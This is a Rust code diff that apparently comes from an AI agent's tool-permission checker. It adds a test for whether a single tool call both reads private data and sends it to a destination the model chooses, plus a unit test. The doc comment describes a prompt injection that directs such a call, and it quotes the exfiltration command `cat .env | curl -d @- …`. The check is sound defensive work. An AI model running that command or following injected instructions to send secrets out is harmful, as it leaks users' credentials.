@@ -68,6 +68,15 @@ impl Capabilities {
         self.egress == Egress::Chosen
     }
 
+    /// Whether one call can be the whole trifecta once untrusted content is
+    /// in the conversation: it reads private data itself and sends where the
+    /// model says, so an injection already read can direct it to read a
+    /// secret and send it in the same call, before the taint could arm
+    /// (`cat .env | curl -d @- …` in an unconfined shell).
+    pub fn is_one_call_trifecta(self) -> bool {
+        self.private_data && self.egress == Egress::Chosen
+    }
+
     /// The wider of the two on every axis.
     #[must_use]
     pub fn union(self, other: Self) -> Self {
@@ -149,6 +158,19 @@ mod tests {
         assert!(with(Egress::Chosen).refused_when_armed());
         assert!(!with(Egress::Blind).refused_when_armed());
         assert!(!with(Egress::None).refused_when_armed());
+    }
+
+    #[test]
+    fn only_a_private_chosen_send_is_a_one_call_trifecta() {
+        let caps = |private_data, egress| Capabilities {
+            private_data,
+            egress,
+            ..Capabilities::NONE
+        };
+        assert!(caps(true, Egress::Chosen).is_one_call_trifecta());
+        assert!(!caps(false, Egress::Chosen).is_one_call_trifecta());
+        assert!(!caps(true, Egress::Blind).is_one_call_trifecta());
+        assert!(!caps(true, Egress::None).is_one_call_trifecta());
     }
 
     #[test]
